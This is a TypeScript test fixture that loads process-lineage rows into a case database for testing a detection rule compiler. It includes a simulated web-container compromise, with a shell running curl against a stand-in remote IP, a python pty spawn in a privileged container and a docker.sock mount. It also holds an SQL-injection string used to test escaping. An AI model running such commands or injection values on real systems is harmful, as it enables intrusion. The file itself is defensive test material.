import { openCaseForWrite, openCaseReadOnly, type Db } from '../../src/db/open.js';
import { tempDir } from '../support/temp-case.js';

/**
 * A small case written row by row, for compiler tests that check both the SQL and the rows it
 * returns. Lineage (exec_id: name):
 *
 *   host node-1:   1 systemd ─┬─ 2 sshd ── 3 bash (tty, alice) ─┬─ 4 ls -la
 *                             │                                 └─ 12..18 odd names (injection cases)
 *                             └─ 5 containerd-shim ── 6 nginx (container c0ffee000001, vpid 1)
 *   container:     6 nginx ── 7 sh -c "curl …" ─┬─ 8 curl (env HTTP_PROXY)
 *                                               ├─ 9 failed exec (res -2, still sh; tried wget)
 *                                               └─ 10 python3 (privileged container c0ffee000002)
 *                  11 fork row of 7 (kind fork, clone)
 */
export interface FixtureExec {
  exec_id: number;
  kind?: string;
  parent_exec_id?: number | null;
  pid: number;
  vpid?: number | null;
  name: string | null;
  exe?: string | null;
  exepath?: string | null;
  args?: string | null;
  cwd?: string | null;
  uid?: number | null;
  user_name?: string | null;
  tty?: number | null;
  env?: string | null;
  container_id?: string | null;
  res?: number | null;
  evt_type?: string | null;
  evt_num?: number | null;
  ts_ns?: bigint;
}

export const FIXTURE_EXECS: FixtureExec[] = [
  { exec_id: 1, kind: 'snapshot', pid: 1, name: 'systemd', exe: '/sbin/init', args: '', uid: 0, user_name: 'root', evt_type: 'snapshot' },
  {
    exec_id: 2,
    kind: 'snapshot',
    parent_exec_id: 1,
    pid: 900,
    name: 'sshd',
    exe: '/usr/sbin/sshd',
    args: '-D',
    uid: 0,
    user_name: 'root',
    evt_type: 'snapshot',
  },
  {
    exec_id: 3,
    parent_exec_id: 2,
    pid: 1000,
    name: 'bash',
    exe: '-bash',
    exepath: '/usr/bin/bash',
    args: '',
    uid: 1000,
    user_name: 'alice',
    tty: 34816,
    evt_num: 10,
  },
  {
    exec_id: 4,
    parent_exec_id: 3,
    pid: 1001,
    name: 'ls',
    exe: 'ls',
    exepath: '/usr/bin/ls',
    args: '-la /home/alice',
    uid: 1000,
    user_name: 'alice',
    tty: 34816,
    evt_num: 20,
  },
  {
    exec_id: 5,
    kind: 'snapshot',
    parent_exec_id: 1,
    pid: 2000,
    name: 'containerd-shim',
    exe: '/usr/bin/containerd-shim-runc-v2',
    args: '',
    evt_type: 'snapshot',
  },
  {
    exec_id: 6,
    kind: 'snapshot',
    parent_exec_id: 5,
    pid: 2001,
    vpid: 1,
    name: 'nginx',
    exe: 'nginx: master process',
    exepath: '/usr/sbin/nginx',
    args: '',
    container_id: 'c0ffee000001',
    evt_type: 'snapshot',
  },
  {
    exec_id: 7,
    parent_exec_id: 6,
    pid: 2002,
    vpid: 7,
    name: 'sh',
    exe: '/bin/sh',
    exepath: '/bin/sh',
    args: '-c curl http://203.0.113.7/x',
    cwd: '/var/www',
    uid: 101,
    user_name: 'nginx',
    container_id: 'c0ffee000001',
    evt_num: 30,
  },
  {
    exec_id: 8,
    parent_exec_id: 7,
    pid: 2003,
    vpid: 8,
    name: 'curl',
    exe: 'curl',
    exepath: '/usr/bin/curl',
    args: '-s http://203.0.113.7/x',
    cwd: '/var/www',
    uid: 101,
    user_name: 'nginx',
    env: 'PATH=/bin\0HTTP_PROXY=http://proxy:3128\0HOME=/',
    container_id: 'c0ffee000001',
    evt_num: 40,
  },
  {
    exec_id: 9,
    parent_exec_id: 7,
    pid: 2004,
    vpid: 9,
    name: 'sh',
    exe: '/bin/sh',
    exepath: '/bin/sh',
    args: '-c curl http://203.0.113.7/x',
    uid: 101,
    user_name: 'nginx',
    container_id: 'c0ffee000001',
    res: -2,
    evt_num: 50,
  },
  {
    exec_id: 10,
    parent_exec_id: 7,
    pid: 2005,
    vpid: 1,
    name: 'python3',
    exe: 'python3',
    exepath: '/usr/bin/python3.11',
    args: '-c import pty',
    container_id: 'c0ffee000002',
    evt_type: 'execveat',
    evt_num: 60,
  },
  {
    exec_id: 11,
    kind: 'fork',
    parent_exec_id: 7,
    pid: 2006,
    name: 'sh',
    exe: '/bin/sh',
    args: '-c curl http://203.0.113.7/x',
    container_id: 'c0ffee000001',
    evt_type: 'clone',
    evt_num: 70,
  },
  { exec_id: 12, parent_exec_id: 3, pid: 1012, name: "O'Brien", exe: "O'Brien", args: "it's -- ' OR 1=1 --", evt_num: 80 },
  { exec_id: 13, parent_exec_id: 3, pid: 1013, name: '50%', exe: '50%', args: '100%', evt_num: 90 },
  { exec_id: 14, parent_exec_id: 3, pid: 1014, name: 'a_b', exe: 'a_b', args: 'x_y', evt_num: 100 },
  { exec_id: 15, parent_exec_id: 3, pid: 1015, name: 'aXb', exe: 'aXb', args: 'xZy', evt_num: 110 },
  { exec_id: 16, parent_exec_id: 3, pid: 1016, name: 'back\\slash', exe: 'C:\\temp', args: '\\n', evt_num: 120 },
  { exec_id: 17, parent_exec_id: 3, pid: 1017, name: 'nul\0byte', exe: 'nul', args: 'a\0b', evt_num: 130 },
  { exec_id: 18, parent_exec_id: 3, pid: 1018, name: 'nul', exe: 'nul', args: 'a', evt_num: 140 },
];

export interface FixtureCase {
  path: string;
  db: Db;
  cleanup(): void;
}

/** Writes the fixture rows into a fresh case database and opens it read-only. */
export function openFixtureCase(extra: FixtureExec[] = []): FixtureCase {
  const dir = tempDir('pedigree-rules-');
  const path = dir.path('case.db');
  const w = openCaseForWrite(path);
  w.prepare("INSERT INTO hosts (host_id, hostname) VALUES (1, 'node-1')").run();
  w.prepare(
    `INSERT INTO containers (container_id, name, image, image_repository, image_tag, privileged, pod_name, pod_namespace, mounts_json)
     VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)`,
  ).run(
    'c0ffee000001',
    'web',
    'docker.io/library/nginx:1.25',
    'docker.io/library/nginx',
    '1.25',
    0,
    'web-1',
    'default',
    '[{"source":"/var/run/docker.sock","destination":"/var/run/docker.sock","mode":"","rw":true,"propagation":"rprivate"}]',
  );
  w.prepare(
    `INSERT INTO containers (container_id, name, image, image_repository, image_tag, privileged, pod_name, pod_namespace)
     VALUES (?, ?, ?, ?, ?, ?, ?, ?)`,
  ).run('c0ffee000002', 'tools', 'quay.io/x/tools:latest', 'quay.io/x/tools', 'latest', 1, null, null);
  const proc = w.prepare(
    "INSERT INTO processes (process_id, capture_id, host_id, pid, vpid, start_ns, container_id, origin) VALUES (?, 1, 1, ?, ?, ?, ?, 'fork')",
  );
  const exec = w.prepare(
    `INSERT INTO execs (exec_id, process_id, capture_id, host_id, kind, parent_exec_id, ts_ns, pid, vpid, name, exe, exepath, args, cmdline,
       cwd, uid, user_name, tty, env, container_id, res, evt_num, evt_type)
     VALUES (?, ?, 1, 1, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)`,
  );
  w.transaction(() => {
    for (const e of [...FIXTURE_EXECS, ...extra]) {
      const kind = e.kind ?? 'exec';
      const ts = e.ts_ns ?? 1_732_800_000_000_000_000n + BigInt(e.exec_id) * 1_000_000_000n;
      proc.run(e.exec_id, e.pid, e.vpid ?? null, ts - 500_000_000n, e.container_id ?? null);
      const cmdline = e.name === null ? null : e.args ? `${e.name} ${e.args}` : e.name;
      exec.run(
        e.exec_id,
        e.exec_id,
        kind,
        e.parent_exec_id ?? null,
        ts,
        e.pid,
        e.vpid ?? null,
        e.name,
        e.exe ?? null,
        e.exepath ?? null,
        e.args ?? null,
        cmdline,
        e.cwd ?? null,
        e.uid ?? null,
        e.user_name ?? null,
        e.tty ?? (kind === 'exec' ? 0 : null),
        e.env ?? null,
        e.container_id ?? null,
        kind === 'exec' ? (e.res ?? 0) : null,
        e.evt_num ?? null,
        e.evt_type ?? (kind === 'exec' ? 'execve' : 'clone'),
      );
    }
  })();
  w.close();
  const db = openCaseReadOnly(path);
  return {
    path,
    db,
    cleanup: () => {
      db.close();
      dir.cleanup();
    },
  };
}
